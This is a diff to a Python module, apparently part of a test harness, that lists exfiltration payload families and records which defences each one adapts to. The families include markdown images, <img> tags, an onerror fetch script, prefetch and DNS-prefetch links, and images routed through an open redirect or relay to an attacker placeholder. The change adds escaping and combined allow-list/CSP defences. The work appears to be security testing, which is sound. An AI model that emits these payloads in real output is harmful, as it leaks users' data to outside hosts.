@@ -82,10 +82,12 @@ class Family:
 
 
 _RELAY, _REDIRECT = "{site}/relay", "{site}/go?to={attacker}"
-_LISTED = frozenset({"allow-list", "product"})
-_POLICY = frozenset({"content security policy", "product"})
+_BOTH = "allow-list + content security policy"
+_MARKDOWN = frozenset({"escaping"})
+_POLICY = frozenset({"content security policy", _BOTH, "product"})
+_LISTED = frozenset({"allow-list", _BOTH, "product"})
 FAMILIES = (
-    Family("markdown image", "![status](URL)"),
+    Family("markdown image", "![status](URL)", adapts_to=_MARKDOWN),
     Family("reference image", f"![status][r{{n}}]{BREAK}{BREAK}[r{{n}}]: URL"),
     Family("raw image", '<img src="URL">'),
     Family("source set", '<img srcset="URL 1x">'),
@@ -96,7 +98,7 @@ FAMILIES = (
     Family("script", '<img src="data:," onerror="fetch(\'URL\')">'),
     Family("prefetch", '<link rel="prefetch" href="URL">'),
     Family("name look-up", '<link rel="dns-prefetch" href="//NAME">', adapts_to=_POLICY),
-    Family("link", "[the timetable](URL)", adapts_to=_POLICY, clicked=True),
+    Family("link", "[the timetable](URL)", adapts_to=_POLICY | _MARKDOWN, clicked=True),
     Family("bare address", "See URL", adapts_to=_POLICY, clicked=True),
     Family("image by an open redirect", "![status](URL)", _REDIRECT, _LISTED),
     Family("image by a relay", "![status](URL)", _RELAY, _LISTED),
